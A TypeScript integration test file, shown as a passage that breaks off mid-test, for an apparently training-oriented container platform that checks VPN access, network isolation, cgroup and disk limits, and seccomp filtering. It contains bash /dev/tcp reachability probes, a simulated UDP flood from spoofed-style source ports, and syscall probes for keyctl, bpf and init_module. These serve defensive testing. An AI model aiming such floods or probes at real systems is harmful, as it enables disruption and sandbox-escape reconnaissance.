import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, readdir, readlink, rm, stat, writeFile } from 'node:fs/promises';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { expect } from 'chai';
import { testLogger } from '../../testing/logger.ts';
import type { Attack } from '../../contracts/index.ts';
import type { BoxObservation, BoxSpec, VpnIdentity, VpnSession } from '../orchestrator.ts';
import { ClientNamespace, VpnClient, requireBoxHost, sshArgs } from '../../testing/netns.ts';
import { freeTcpUdpPort } from '../../net.ts';
import { orchestratorContract } from '../../testing/orchestrator-contract.ts';
import { LocalRuntime, type LocalRuntimeOptions } from './runtime.ts';
import { CONSOLE_LOG_BYTES } from './machine.ts';
import { BOX_SOCKET_TABLES } from './network.ts';
import { BOX_SSH_CHECK, PROBE_PORTS, runCheck, type ServiceCheck } from '@exploit-grid/operator/catalogue';
import type { HostReferee, VerdictSink } from '../../referee/host.ts';

const execFileAsync = promisify(execFile);

/**
 * The local box runtime with real parts: systemd-nspawn boxes, the two OpenVPN servers, the
 * router namespace and its nftables rules, and stock `openvpn` and `ssh` clients run from two
 * "players' computers" (network namespaces joined to the host by a veth, as the e2e tests do).
 *
 * Needs root and the box packages; skips loudly otherwise (fails with REQUIRE_BOX_RUNTIME=1).
 * Uses its own prefix and subnets, so it runs beside a `make run` or another test run, and
 * takes down everything it made, checking that nothing is left.
 */
describe('local box runtime on this host (real containers, OpenVPN, namespaces, ssh)', function () {
  this.timeout(60_000);

  const tag = randomBytes(2).toString('hex').slice(0, 3);
  const prefix = `egt${tag}`;
  const cgroupGroup = `exploit-grid-${prefix}`;
  const MAX_CLIENTS = 10;
  const resources = { memoryMiB: 384, cpuMillis: 500, pids: 300 };
  const DISK_MIB = 300;
  const POOL_LOADOUT = { in: 1, up: 1 };

  let tmp: string | undefined;
  let dataDir: string;
  let options: LocalRuntimeOptions;
  let runtime: LocalRuntime | undefined;
  let ownerKey: string;
  let ownerPublicKey: string;
  let hostOctet: number;
  let forwardingBefore: string;
  /** The host namespace's own setting for namespaces made from it, which the runtime must leave alone. */
  let hostChildEhash: string;
  let listener: ChildProcess | undefined;
  const clients: ClientNamespace[] = [];
  let alice: ClientNamespace;
  let bob: ClientNamespace;

  const users = { alice: randomUUID(), bob: randomUUID(), carol: randomUUID() };
  const refused = new Set<string>([users.carol]);
  const asked: string[] = [];
  const connected: VpnSession[] = [];
  const disconnected: VpnSession[] = [];
  const identities: Partial<Record<keyof typeof users, VpnIdentity>> = {};
  const configs = { alice: '', bob: '', carol: '' };
  let aliceVpn: VpnClient;
  let bobVpn: VpnClient;

  const aliceBox: BoxSpec = {
    id: randomUUID(),
    slot: 7,
    hostname: 'alice-box',
    ownerId: users.alice,
    power: true,
    rootPassword: `alice-${randomBytes(6).toString('hex')}`,
    sshPublicKey: null,
    agentToken: `agent-${randomBytes(16).toString('hex')}`,
    loadout: [],
    resources,
  };
  const bobBox: BoxSpec = {
    id: randomUUID(),
    slot: 8,
    hostname: 'bob-box',
    ownerId: users.bob,
    power: true,
    rootPassword: `bob-${randomBytes(6).toString('hex')}`,
    sshPublicKey: null,
    agentToken: null,
    loadout: [],
    resources,
  };
  const boxDir = (spec: BoxSpec) => path.join(dataDir, 'boxes', spec.id);
  const machineName = (spec: BoxSpec) => `${prefix}-b${spec.slot}`;
  const ip = (spec: BoxSpec) => runtime!.boxAddress(spec.slot);
  const session = (userId: string) => runtime!.vpnSessions().find((s) => s.userId === userId);

  /** A runtime object as the API makes it; the authorizer refuses the players in `refused`. */
  function newRuntime(): LocalRuntime {
    const r = new LocalRuntime(options);
    r.setVpnAuthorizer(async (userId) => {
      asked.push(userId);
      return !refused.has(userId);
    });
    r.events.on('vpnConnected', (s) => connected.push(s));
    r.events.on('vpnDisconnected', (s) => disconnected.push(s));
    return r;
  }

  /** Calls applyBox until the box is in `phase`, allowing only `passing` phases on the way. */
  async function waitPhase(
    spec: BoxSpec,
    phase: BoxObservation['phase'],
    passing: BoxObservation['phase'][],
    timeoutMs = 30_000,
  ): Promise<BoxObservation> {
    const seen: BoxObservation['phase'][] = [];
    return until(
      `box ${spec.hostname} ${phase}`,
      async () => {
        const observed = await runtime!.applyBox(spec);
        if (observed.phase === phase) return observed;
        seen.push(observed.phase);
        if (!passing.includes(observed.phase)) {
          const consoleLog = await readFile(path.join(boxDir(spec), 'console.log'), 'utf8').catch(() => '');
          expect.fail(
            `box ${spec.hostname} went ${seen.join(' → ')} on the way to ${phase} (${observed.reason}); ` +
              `its console ends:\n${consoleLog.slice(-3000)}`,
          );
        }
        return undefined;
      },
      timeoutMs,
      250,
    );
  }

  /** applyBox until the booted box's sshd listens (RUNNING comes first: booted, not listening). */
  async function waitSshd(spec: BoxSpec, timeoutMs = 30_000): Promise<BoxObservation> {
    return until(
      `sshd of ${spec.hostname}`,
      async () => {
        const observed = await runtime!.applyBox(spec);
        expect(observed.phase, `${spec.hostname} (${observed.reason})`).to.be.oneOf([
          'RUNNING',
          'PROVISIONING',
        ]);
        return observed.phase === 'RUNNING' && observed.openPorts['22'] ? observed : undefined;
      },
      timeoutMs,
      250,
    );
  }

  before(async function () {
    this.timeout(300_000);
    await requireBoxHost(this, 'the local box runtime tests');
    tmp = await mkdtemp(path.join(os.tmpdir(), `${prefix}-`));
    dataDir = path.join(tmp, 'data');
    ownerKey = path.join(tmp, 'owner_ed25519');
    await execFileAsync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'owner@test', '-f', ownerKey]);
    ownerPublicKey = (await readFile(`${ownerKey}.pub`, 'utf8')).trim();
    aliceBox.sshPublicKey = ownerPublicKey;

    // The players' computers: 10.203.<n>.4/30 and .8/30 on the host, the transit link .0/30.
    forwardingBefore = await readFile('/proc/sys/net/ipv4/ip_forward', 'utf8');
    hostChildEhash = (await readFile('/proc/sys/net/ipv4/tcp_child_ehash_entries', 'utf8')).trim();
    hostOctet = await freeHostOctet();
    const net3 = `10.203.${hostOctet}`;
    alice = new ClientNamespace(`${prefix}-alice`, `${prefix}-ca`, net3, 4);
    bob = new ClientNamespace(`${prefix}-bob`, `${prefix}-cb`, net3, 8);
    for (const client of [alice, bob]) {
      clients.push(client);
      await client.create();
    }
    const port = await freePort();
    options = {
      dataDir,
      imageDir: path.join(
        process.env.XDG_CACHE_HOME ?? path.join(os.homedir(), '.cache'),
        'exploit-grid/images',
      ),
      imageSuite: 'bookworm',
      prefix,
      arenaSubnet: '10.200.0.0/16',
      transitSubnet: `${net3}.0/30`,
      vpnUdpSubnet: '10.201.0.0/24',
      vpnTcpSubnet: '10.202.0.0/24',
      // Players reach the VPN at the host side of their veth, as they would at a public address.
      vpnPublicHost: alice.hostAddress,
      vpnListenHost: '0.0.0.0',
      // Fixed (free) ports, so the runtime of a restarted API listens where clients connect.
      vpnUdpPort: port,
      vpnTcpPort: port,
      vpnMaxClients: MAX_CLIENTS,
      stopTimeoutMs: 5000,
      diskMiB: DISK_MIB,
      // Spares boot only when a test asks for them (prepareSpares): the API's loop is not here.
      warmPool: 2,
      loadout: POOL_LOADOUT,
      resources,
      logger: testLogger,
    };
    runtime = newRuntime();
    await runtime.start();
    expect(runtime.status().reason, 'runtime status').to.equal(null);
    // Built once per cache directory (about a minute); later runs reuse it.
    await runtime.image.ensure();
    expect(runtime.status()).to.deep.include({ available: true });

    for (const user of ['alice', 'bob', 'carol'] as const) {
      const identity = await runtime.issueVpnIdentity(users[user]);
      identities[user] = identity;
      configs[user] = path.join(tmp, `${user}.ovpn`);
      const protocol = user === 'bob' ? 'TCP' : 'UDP';
      await writeFile(configs[user], runtime.vpnClientConfig(protocol, identity, user), { mode: 0o600 });
    }
  });

  after(async function () {
    this.timeout(120_000);
    if (!tmp) return;
    const problems: string[] = [];
    const attempt = async (what: string, fn: () => Promise<unknown>) => {
      try {
        await fn();
      } catch (err) {
        problems.push(`${what}: ${err instanceof Error ? err.message : String(err)}`);
      }
    };
    for (const vpn of VpnClient.all) await attempt('stop a VPN client', () => vpn.stop());
    listener?.kill('SIGKILL');
    if (referee) await attempt('referee.close()', () => referee!.close());
    if (runtime) await attempt('runtime.destroy()', () => runtime!.destroy());
    for (const client of clients) await attempt(`remove ${client.name}`, () => client.destroy());

    const netns = (await readdir('/run/netns').catch(() => [])).filter((n) => n.startsWith(`${prefix}-`));
    if (netns.length) problems.push(`network namespaces left: ${netns.join(', ')}`);
    const links = (await execFileAsync('ip', ['-o', 'link'])).stdout
      .split('\n')
      .filter((line) => line.includes(`${prefix}-`));
    if (links.length) problems.push(`host interfaces left: ${links.join('; ')}`);
    const mounts = await mountsUnder(tmp);
    if (mounts.length) problems.push(`mounts left: ${mounts.join(', ')}`);
    // The kernel lets go of an unmounted loop device a moment later.
    let loops = await loopDevicesOf(tmp);
    for (let i = 0; i < 50 && loops.length; i++) {
      await sleep(100);
      loops = await loopDevicesOf(tmp);
    }
    if (loops.length) problems.push(`loop devices left: ${loops.join(', ')}`);
    const cgroups = await cgroupDirs(cgroupGroup);
    if (cgroups.length) problems.push(`cgroups left: ${cgroups.join(', ')}`);
    const processes = await processesMatching((argv) =>
      argv.some((arg) => arg.includes(tmp!) || arg.startsWith(`--machine=${prefix}-`)),
    );
    if (processes.length)
      problems.push(`processes left: ${processes.map((p) => `${p.pid} ${p.argv.join(' ')}`).join('; ')}`);
    if (existsSync(`/run/exploit-grid/${prefix}`)) problems.push(`/run/exploit-grid/${prefix} left`);
    const tables = (await execFileAsync('nft', ['list', 'tables'])).stdout;
    if (tables.includes(`${prefix}-ingress`)) problems.push(`host nftables table ${prefix}-ingress left`);
    // Forwarding as it was (another runtime on this host may hold it on: then it stays on).
    const forwarding = await readFile('/proc/sys/net/ipv4/ip_forward', 'utf8');
    if (forwarding !== forwardingBefore && !existsSync('/run/exploit-grid/forwarding/before.json'))
      problems.push(`IPv4 forwarding left at ${forwarding.trim()}, was ${forwardingBefore.trim()}`);

    for (const mount of mounts) await execFileAsync('umount', ['-l', mount]).catch(() => undefined);
    for (const p of processes) killQuietly(p.pid);
    await rm(tmp, { recursive: true, force: true });
    expect(problems, 'what the runtime left on the host').to.deep.equal([]);
  });

  it('connects stock OpenVPN clients over UDP and TCP with the .ovpn files as written', async () => {
    const [aliceFile, bobFile] = await Promise.all([
      readFile(configs.alice, 'utf8'),
      readFile(configs.bob, 'utf8'),
    ]);
    expect(aliceFile).to.match(
      new RegExp(`^remote ${alice.hostAddress.replace(/\./g, '\\.')} ${options.vpnUdpPort}$`, 'm'),
    );
    expect(aliceFile).to.match(/^proto udp$/m);
    expect(bobFile).to.match(/^proto tcp-client$/m);

    aliceVpn = new VpnClient(alice.name, configs.alice);
    bobVpn = new VpnClient(bob.name, configs.bob);
    await Promise.all([aliceVpn.connected(), bobVpn.connected()]);
    const sessions = await until('both VPN sessions', async () =>
      session(users.alice) && session(users.bob) ? runtime!.vpnSessions() : undefined,
    );
    expect(sessions).to.have.length(2);
    const a = session(users.alice)!;
    const b = session(users.bob)!;
    expect(a.protocol).to.equal('UDP');
    expect(b.protocol).to.equal('TCP');
    expect(a.vpnAddress).to.equal(await alice.tunAddress());
    expect(b.vpnAddress).to.equal(await bob.tunAddress());
    expect(a.vpnAddress).to.match(/^10\.201\.0\.\d+$/);
    expect(b.vpnAddress).to.match(/^10\.202\.0\.\d+$/);
    expect(runtime!.poolUsage()).to.deep.equal({
      UDP: { clients: 1, maxClients: MAX_CLIENTS },
      TCP: { clients: 1, maxClients: MAX_CLIENTS },
    });
    expect(connected.map((s) => s.userId)).to.have.members([users.alice, users.bob]);
    expect(asked).to.include.members([users.alice, users.bob]);
  });

  it('keeps the VPN servers’ management sockets to root, their revocation lists readable', async () => {
    const dir = `/run/exploit-grid/${prefix}/management`;
    expect((await stat(dir)).mode & 0o777, 'the sockets’ directory').to.equal(0o700);
    expect((await stat(dir)).uid).to.equal(0);
    for (const protocol of ['udp', 'tcp']) {
      expect((await stat(path.join(dir, `${protocol}.sock`))).isSocket(), protocol).to.equal(true);
      // The server reads its list after dropping root: that directory is only traversable.
      const crl = await stat(`/run/exploit-grid/${prefix}/${protocol}-crl.pem`);
      expect(crl.mode & 0o004, `${protocol} CRL readable`).to.not.equal(0);
    }
    expect((await stat(`/run/exploit-grid/${prefix}`)).mode & 0o777).to.equal(0o711);
  });

  it('refuses a player the authorizer refuses (AUTH_FAILED, no session)', async () => {
    const carol = new VpnClient(bob.name, configs.carol);
    const code = await Promise.race([carol.exited, sleep(20_000).then(() => 'still running')]);
    expect(code, carol.log).to.not.equal('still running');
    expect(carol.log).to.include('AUTH_FAILED');
    expect(carol.log).to.not.include('Initialization Sequence Completed');
    expect(asked).to.include(users.carol);
    expect(session(users.carol)).to.equal(undefined);
    expect(runtime!.poolUsage().UDP.clients).to.equal(1);
  });

  it('lets a stock OpenVPN client in at once on an address the host got after start, with its own address', async () => {
    // Erin's computer and the host address she connects to are both newer than the runtime.
    const erin = new ClientNamespace(`${prefix}-erin`, `${prefix}-ce`, `10.203.${hostOctet}`, 12);
    clients.push(erin);
    await erin.create();
    const erinId = randomUUID();
    const config = path.join(tmp!, 'erin.ovpn');
    const written = runtime!.vpnClientConfig('UDP', await runtime!.issueVpnIdentity(erinId), 'erin');
    await writeFile(config, written.replace(/^remote \S+ /m, `remote ${erin.hostAddress} `), { mode: 0o600 });
    const vpn = await erin.connectVpn(config);
    // A relay that had not bound the new address yet would have refused the first datagrams.
    expect(vpn.log, 'the client’s log').to.not.include('ECONNREFUSED');
    expect(vpn.log).to.include(`${erin.hostAddress}:${options.vpnUdpPort}`);
    // No NAT of players' addresses: OpenVPN sees Erin's own.
    await until('Erin’s session', async () => session(erinId));
    const serverLog = await readFile(path.join(dataDir, 'vpn/udp/openvpn.log'), 'utf8');
    expect(serverLog, 'the UDP server’s log').to.match(
      new RegExp(`Peer Connection Initiated with \\[AF_INET\\]${erin.clientAddress.replace(/\./g, '\\.')}:`),
    );
    await vpn.stop();
    await until('Erin’s session to end', async () => !session(erinId), 20_000);
  });

  it('boots boxes: PROVISIONING, then RUNNING once their systemd runs, then ssh open', async function () {
    this.timeout(90_000);
    const started = Date.now();
    const first = await Promise.all([runtime!.applyBox(aliceBox), runtime!.applyBox(bobBox)]);
    expect(first.map((o) => o.phase)).to.deep.equal(['PROVISIONING', 'PROVISIONING']);
    // Applied at once, neither undid the other's bridge port (its ARP would be dropped for good).
    const ports = await runtime!.router.listPorts();
    for (const spec of [aliceBox, bobBox]) expect(ports, 'the router’s box ports').to.include(ip(spec));
    expect(first[0]!.ip).to.equal('10.200.1.8');
    expect(first[1]!.ip).to.equal('10.200.1.9');
    const [a, b] = await Promise.all([
      waitPhase(aliceBox, 'RUNNING', ['PROVISIONING'], 80_000),
      waitPhase(bobBox, 'RUNNING', ['PROVISIONING'], 80_000),
    ]);
    console.log(`      (two boxes RUNNING after ${Date.now() - started} ms)`);
    for (const [observed, spec] of [
      [a, aliceBox],
      [b, bobBox],
    ] as const) {
      expect(observed.ip).to.equal(ip(spec));
      expect(observed.reason).to.equal(null);
      expect((await waitSshd(spec)).openPorts).to.deep.include({ '22': 'ssh' });
    }
    console.log(`      (two boxes with ssh open after ${Date.now() - started} ms)`);
    expect(await runtime!.boxIds()).to.have.members([aliceBox.id, bobBox.id]);
  });

  it('takes a flood of UDP datagrams from many source ports in the kernel, not in the API process', async () => {
    const descriptors = async () => (await readdir('/proc/self/fd')).length;
    const before = await descriptors();
    // 3000 source ports, one junk datagram each, as spoofed sources would send (tls-crypt drops them).
    await execFileAsync(
      'ip',
      [
        'netns',
        'exec',
        bob.name,
        process.execPath,
        '-e',
        `const dgram = require('node:dgram');
         (async () => {
           for (let i = 0; i < 3000; i++) {
             const s = dgram.createSocket('udp4');
             await new Promise((r) => s.send(Buffer.alloc(64, i), Number(process.argv[2]), process.argv[1], r));
             s.close();
           }
         })();`,
        alice.hostAddress,
        String(options.vpnUdpPort),
      ],
      { timeout: 60_000 },
    );
    await sleep(500);
    expect((await descriptors()) - before, 'descriptors the flood opened in this process').to.be.below(20);
    // Players are still served.
    expect(await alice.canConnect(ip(aliceBox), 22), 'Alice over UDP').to.equal(true);
    expect(await bob.canConnect(ip(bobBox), 22), 'Bob over TCP').to.equal(true);
  });

  it('forwards nothing through the host but the VPN: one player’s computer does not reach another’s', async function () {
    // A host that forwarded before the runtime came is left as it was (docs/boxes.md).
    if (forwardingBefore.trim() !== '0') this.skip();
    expect((await readFile('/proc/sys/net/ipv4/ip_forward', 'utf8')).trim(), 'forwarding').to.equal('1');
    const port = await freePort();
    const server = spawn(
      'ip',
      [
        'netns',
        'exec',
        bob.name,
        process.execPath,
        '-e',
        "require('node:net').createServer((s) => s.end('hi')).listen(Number(process.argv[1]), '0.0.0.0')",
        String(port),
      ],
      { stdio: 'ignore' },
    );
    try {
      await until('the listener on Bob’s computer', () => tcpConnects(bob.clientAddress, port), 10_000);
      expect(await alice.canConnect(bob.clientAddress, port), 'Alice’s computer to Bob’s').to.equal(false);
      expect(await alice.canConnect(ip(aliceBox), 22), 'Alice over the VPN').to.equal(true);
    } finally {
      server.kill('SIGKILL');
    }
  });

  it('lets the owner in as root with the password over the VPN, on the spec hostname', async () => {
    const out = await alice.ssh(
      ip(aliceBox),
      'hostname; echo "$SSH_CONNECTION"; id -u; echo kept > /root/marker; stat -c %a /; ' +
        'runuser -u nobody -- cat /etc/hostname; timeout 10 systemctl is-system-running --wait >/dev/null; ' +
        'systemctl is-active dbus systemd-logind ssh | tr "\\n" " "; echo; ' +
        'ls /etc/exploit-grid; systemctl is-enabled exploit-grid-agent 2>&1 | tail -n 1',
      {
        password: aliceBox.rootPassword,
      },
    );
    const [hostname, connection, uid, rootMode, asNobody, units, platformFiles, agent] = out
      .trim()
      .split('\n');
    expect(hostname).to.equal('alice-box');
    expect(connection!.split(' ')[0]).to.equal(session(users.alice)!.vpnAddress);
    expect(connection!.split(' ')[2]).to.equal(ip(aliceBox));
    expect(uid).to.equal('0');
    // Users other than root can use the box (its / was once 0700: dbus never came up).
    expect(rootMode, 'mode of / in the box').to.equal('755');
    expect(asNobody, 'nobody reading /etc/hostname').to.equal('alice-box');
    expect(units!.trim(), 'dbus, logind and ssh').to.equal('active active active');
    // No agent and no secret in the box: the referee watches from the host.
    expect(platformFiles, 'the platform’s files in the box').to.equal('network');
    expect(agent).to.not.equal('enabled');
    // Bob over TCP to his own box.
    const bobOut = await bob.ssh(ip(bobBox), 'hostname; echo "$SSH_CONNECTION"', {
      password: bobBox.rootPassword,
    });
    expect(bobOut.trim().split('\n')[0]).to.equal('bob-box');
    expect(bobOut.trim().split('\n')[1]!.split(' ')[0]).to.equal(session(users.bob)!.vpnAddress);
  });

  it('runs no agent in boxes: a box reaches nothing outside the arena, the gateway and host included', async () => {
    const gateway = runtime!.router.routerArenaAddress;
    const host = runtime!.router.hostTransitAddress;
    const reach = await alice.ssh(
      ip(aliceBox),
      `for t in ${gateway}/80 ${host}/8089 ${host}/22 ${gateway}/22; do ` +
        `timeout 2 bash -c "exec 3<>/dev/tcp/\${t%/*}/\${t#*/}" 2>/dev/null && echo open || echo closed; done; ` +
        "pgrep -f 'node.*agent[.]cjs' || echo no-agent",
      { password: aliceBox.rootPassword },
    );
    expect(reach.trim().split('\n')).to.deep.equal(['closed', 'closed', 'closed', 'closed', 'no-agent']);
  });

  it('lets the owner in with their SSH key; a wrong password is refused', async () => {
    expect((await alice.ssh(ip(aliceBox), 'echo key-ok', { keyFile: ownerKey })).trim()).to.equal('key-ok');
    // Bob gave no key: the same key does not open his box.
    let refusedKey = false;
    await bob.ssh(ip(bobBox), 'true', { keyFile: ownerKey }).catch(() => (refusedKey = true));
    expect(refusedKey, 'a key bob never gave opened his box').to.equal(true);
    let refusedPassword = false;
    await alice
      .ssh(ip(aliceBox), 'true', { password: 'not-the-password' })
      .catch(() => (refusedPassword = true));
    expect(refusedPassword, 'a wrong password was accepted').to.equal(true);
  });

  it('runs box root as an unprivileged host UID, each box in its own range', async () => {
    const uidMap = (
      await alice.ssh(ip(aliceBox), 'cat /proc/self/uid_map', { password: aliceBox.rootPassword })
    )
      .trim()
      .split(/\s+/)
      .map(Number);
    expect(uidMap[0]).to.equal(0);
    expect(uidMap[1]).to.be.at.least(0x10000000);
    expect(uidMap[2]).to.equal(65536);

    const aliceInit = await containerInit(boxDir(aliceBox));
    const bobInit = await containerInit(boxDir(bobBox));
    const aliceUids = await hostUids(aliceInit);
    expect(aliceUids).to.deep.equal([uidMap[1], uidMap[1], uidMap[1], uidMap[1]]);
    const bobUids = await hostUids(bobInit);
    expect(bobUids[0]).to.be.at.least(0x10000000);
    expect(Math.abs(bobUids[0]! - aliceUids[0]!)).to.be.at.least(65536);
    // Files of the box, seen from the host, belong to the shifted UID too.
    expect((await stat(path.join(boxDir(aliceBox), 'root'))).uid).to.equal(uidMap[1]);
    expect((await stat(path.join(boxDir(aliceBox), 'root/root/marker'))).uid).to.equal(uidMap[1]);
  });

  it('holds every box process in a cgroup with the memory, CPU and process limits', async () => {
    const machine = machineName(aliceBox);
    const limit = async (controller: string, v1: string, v2: string) =>
      (
        await readFile(
          UNIFIED
            ? path.join(CGROUP_ROOT, cgroupGroup, machine, v2)
            : path.join(CGROUP_ROOT, controller, cgroupGroup, machine, v1),
          'utf8',
        )
      ).trim();
    expect(await limit('memory', 'memory.limit_in_bytes', 'memory.max')).to.equal(String(384 * 1024 * 1024));
    expect(await limit('pids', 'pids.max', 'pids.max')).to.equal('300');
    if (UNIFIED) expect(await limit('cpu', '', 'cpu.max')).to.equal('50000 100000');
    else expect(await limit('cpu', 'cpu.cfs_quota_us', '')).to.equal('50000');
    // All boxes together yield the CPU to the host's own processes (the API) when it is contended.
    const groupWeight = UNIFIED
      ? await readFile(path.join(CGROUP_ROOT, cgroupGroup, 'cpu.weight'), 'utf8')
      : await readFile(path.join(CGROUP_ROOT, 'cpu', cgroupGroup, 'cpu.shares'), 'utf8');
    expect(Number(groupWeight), 'the boxes’ CPU weight').to.equal(UNIFIED ? 12 : 128);

    const init = await containerInit(boxDir(aliceBox));
    const membership = await readFile(`/proc/${init}/cgroup`, 'utf8');
    if (UNIFIED) expect(membership).to.include(`0::/${cgroupGroup}/${machine}/`);
    else
      for (const controller of ['memory', 'pids', 'cpu'])
        expect(membership).to.match(
          new RegExp(`:[^:]*\\b${controller}\\b[^:]*:/${cgroupGroup}/${machine}(/|$)`, 'm'),
        );
    // sshd and the rest of the box are counted as well.
    const inGroup = await cgroupProcs(cgroupGroup, machine);
    expect(inGroup).to.include(init);
    expect(inGroup.length).to.be.at.least(4);
  });

  it('gives every box TCP and UDP socket tables of its own, the host’s left as they were', async () => {
    // Reading a box's /proc/<pid>/net/tcp (its open ports, the referee's view) walks its table: with the
    // host's shared one that is every bucket of the host, each tick, for each box.
    const init = await containerInit(boxDir(aliceBox));
    const inBox = async (key: string) =>
      (await execFileAsync('nsenter', ['-t', String(init), '-n', 'sysctl', '-n', key])).stdout.trim();
    expect(await inBox('net.ipv4.tcp_ehash_entries')).to.equal(String(BOX_SOCKET_TABLES[0][1]));
    expect(await inBox('net.ipv4.udp_hash_entries')).to.equal(String(BOX_SOCKET_TABLES[1][1]));
    // Only the router's namespace, where boxes' are made, asks for them.
    expect((await readFile('/proc/sys/net/ipv4/tcp_child_ehash_entries', 'utf8')).trim()).to.equal(
      hostChildEhash,
    );
  });

  it('holds a box to its disk with the kernel: writing past it fails inside, the host keeps its space, the box runs on', async () => {
    const image = path.join(boxDir(aliceBox), 'disk.img');
    const size = DISK_MIB * 1024 * 1024;
    const allocated = async () => (await stat(image)).blocks * 512;
    // Preallocated: the host's blocks were taken when the disk was made.
    expect(await allocated(), 'the disk image’s blocks on the host').to.be.at.least(size);
    const loops = await loopDevicesOf(boxDir(aliceBox));
    expect(loops, 'loop devices holding the box’s disk').to.have.length(1);
    const out = await alice.ssh(
      ip(aliceBox),
      // A failed fallocate keeps the blocks it got: the file goes before the next one.
      'fallocate -l 1G /root/big 2>&1; echo "big=$?"; rm -f /root/big; fallocate -l 40M /root/small; echo "small=$?"; ' +
        'dd if=/dev/zero of=/root/fill bs=1M 2>&1 | tail -n 1; sync; rm -f /root/small /root/fill; ' +
        'echo room > /root/after; echo "freed=$?"',
      { password: aliceBox.rootPassword },
    );
    expect(out, 'fallocate beyond the disk').to.match(/No space left on device[\s\S]*big=1/);
    expect(out, 'a file that fits').to.include('small=0');
    expect(out, 'dd until the disk is full').to.include('No space left on device');
    expect(out, 'a write once room was made').to.include('freed=0');
    // The box wrote its whole disk: the image took no more of the host than it had.
    expect(await allocated()).to.be.below(size + 8 * 1024 * 1024);
    expect((await runtime!.applyBox(aliceBox)).phase, 'the box after its disk was full').to.equal('RUNNING');
    expect(await alice.canConnect(ip(aliceBox), 22)).to.equal(true);
  });

  it('gives box root no console to write to the host: its systemd logs to its own journal', async () => {
    const out = await alice.ssh(
      ip(aliceBox),
      'test -e /dev/console; echo "console=$?"; readlink /proc/1/fd/1; journalctl -b -q -n 200 --no-pager | grep -c "Reached target" || true',
      { password: aliceBox.rootPassword },
    );
    const [console_, init, reached] = out.trim().split('\n');
    expect(console_).to.equal('console=1');
    expect(init, 'where the box’s systemd writes').to.equal('/dev/null');
    expect(Number(reached), 'boot lines in the box’s journal').to.be.above(0);
    // The host's log of the box holds the launcher's and nspawn's lines only.
    const log = await stat(path.join(boxDir(aliceBox), 'console.log'));
    expect(log.size).to.be.below(CONSOLE_LOG_BYTES);
  });

  it('filters box root’s syscalls: no new user namespaces, keyrings, bpf, modules or io_uring; its firewall, namespaces and sudo work', async () => {
    const probes =
      os.arch() === 'x64'
        ? `perl -e 'for (["keyctl",250,0,-3],["add_key",248,"user","k","v",1,-2],["bpf",321,0,0,0],` +
          `["io_uring_setup",425,1,0],["init_module",175,0,0,""],["perf_event_open",298,0,0,-1,-1,0]) ` +
          `{ my ($n,$nr,@a)=@$_; $!=0; my $r=syscall($nr,@a); print "$n=".($r==-1?$!+0:"allowed")."\\n" }'`
        : 'true';
    const out = await alice.ssh(
      ip(aliceBox),
      'unshare -U true 2>/dev/null; echo "userns=$?"; unshare -m true; echo "mountns=$?"; ' +
        'unshare -n true; echo "netns=$?"; nft add table inet eg_probe && nft list tables && ' +
        'nft delete table inet eg_probe; echo "nft=$?"; grep -E "^(Seccomp|NoNewPrivs):" /proc/self/status; ' +
        `runuser -u nobody -- sh -c 'unshare -U true 2>/dev/null; echo "nobody-userns=$?"'; ${probes}`,
      { password: aliceBox.rootPassword },
    );
    const lines = out.trim().split('\n');
    expect(lines, 'a new user namespace').to.include('userns=1');
    expect(lines, 'as any user of the box').to.include('nobody-userns=1');
    expect(lines, 'mount and network namespaces (services’ sandboxing)').to.include.members([
      'mountns=0',
      'netns=0',
    ]);
    expect(lines, 'the box’s own firewall').to.include.members(['table inet eg_probe', 'nft=0']);
    expect(out).to.match(/^Seccomp:\s+2$/m);
    // No no_new_privs: su and sudo keep working.
    expect(out).to.match(/^NoNewPrivs:\s+0$/m);
    if (os.arch() === 'x64')
      for (const call of ['keyctl', 'add_key', 'bpf', 'io_uring_setup', 'init_module', 'perf_event_open'])
        expect(lines, call).to.include(`${call}=1`);
  });

  it('keeps players apart: no other box, no other VPN client, not the router', async () => {
    // A server on Bob's computer (reachable on its own link, so a refusal below is the VPN's doing).
    const port = await freePort();
    listener = spawn(
      'ip',
      [
        'netns',
        'exec',
        bob.name,
        process.execPath,
        '-e',
        "require('node:net').createServer((s) => s.end('hi')).listen(Number(process.argv[1]), '0.0.0.0')",
        String(port),
      ],
      { stdio: 'ignore' },
    );
    await until('the listener on Bob’s computer', () => tcpConnects(bob.clientAddress, port), 10_000);
    const bobVpnAddress = session(users.bob)!.vpnAddress;
    const router = '10.200.0.1';
    // From inside Alice's box: Bob's box, Bob's computer, the router's OpenVPN port (it listens on
    // all addresses); its own sshd shows that the probe works.
    const fromBox = [`${ip(bobBox)}/22`, `${bobVpnAddress}/${port}`, `${router}/1194`];
    const [bobToAlice, aliceToBob, aliceToBobClient, aliceToRouter, boxProbes, aliceOwn, bobOwn] =
      await Promise.all([
        bob.canConnect(ip(aliceBox), 22),
        alice.canConnect(ip(bobBox), 22),
        alice.canConnect(bobVpnAddress, port),
        alice.canConnect(router, 1194),
        alice
          .ssh(
            ip(aliceBox),
            'for t in "$@"; do (timeout 2 bash -c "exec 3<>/dev/tcp/$t" 2>/dev/null && echo "$t open" || echo "$t closed") & done; wait',
            { password: aliceBox.rootPassword },
            [...fromBox, '127.0.0.1/22'],
          )
          .then((out) => out.trim().split('\n').sort()),
        alice.canConnect(ip(aliceBox), 22),
        bob.canConnect(ip(bobBox), 22),
      ]);
    expect(bobToAlice, 'Bob reached Alice’s box').to.equal(false);
    expect(aliceToBob, 'Alice reached Bob’s box').to.equal(false);
    expect(aliceToBobClient, 'Alice reached Bob’s computer over the VPN').to.equal(false);
    expect(aliceToRouter, 'Alice reached the router itself over the VPN').to.equal(false);
    expect(boxProbes, 'what Alice’s box reached').to.deep.equal(
      [...fromBox.map((t) => `${t} closed`), '127.0.0.1/22 open'].sort(),
    );
    expect(aliceOwn, 'Alice lost her own box').to.equal(true);
    expect(bobOwn, 'Bob lost his own box').to.equal(true);
    listener.kill('SIGKILL');
  });

  it('lets a box answer its owner but never open a connection to the owner’s computer; an attacker’s only inside a window', async function () {
    this.timeout(180_000);
    // Listeners on both players' computers, on all their addresses (the VPN's included).
    const port = await freePort();
    const listeners = [alice, bob].map((computer) =>
      spawn(
        'ip',
        [
          'netns',
          'exec',
          computer.name,
          process.execPath,
          '-e',
